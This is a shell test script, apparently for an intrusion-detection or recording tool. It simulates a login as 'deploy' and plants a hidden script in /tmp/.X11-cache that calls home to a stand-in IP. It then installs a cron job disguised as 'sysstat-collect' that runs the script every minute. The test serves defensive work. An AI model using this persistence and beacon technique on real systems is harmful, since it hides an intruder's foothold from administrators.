# deploy leaves a script under /tmp and, with sudo, a job in /etc/cron.d that runs it as www every minute. The cron daemon runs it: it calls home.
# rules: recording
# format: RAW
# node: app-04
# source: 203.0.113.66
source "$(dirname "${BASH_SOURCE[0]}")/../helpers.sh"

mkdir "$work/web"; echo ok >"$work/web/ping"
serves "$work/web" 8000
cron -f & cron=$!
from "$source_ip" deploy deploy-Passw0rd "mkdir -p /tmp/.X11-cache; printf '#!/bin/sh\ncurl -s http://$source_ip:8000/ping >/dev/null\nid >/dev/null\n' > /tmp/.X11-cache/run.sh; chmod 755 /tmp/.X11-cache/run.sh; echo '* * * * * www /tmp/.X11-cache/run.sh' | sudo tee /etc/cron.d/sysstat-collect; sudo chmod 644 /etc/cron.d/sysstat-collect"
# until a few seconds into the next minute
sleep $((64 - 10#$(date +%S)))
kill "$cron" "$server"
rm -f /etc/cron.d/sysstat-collect
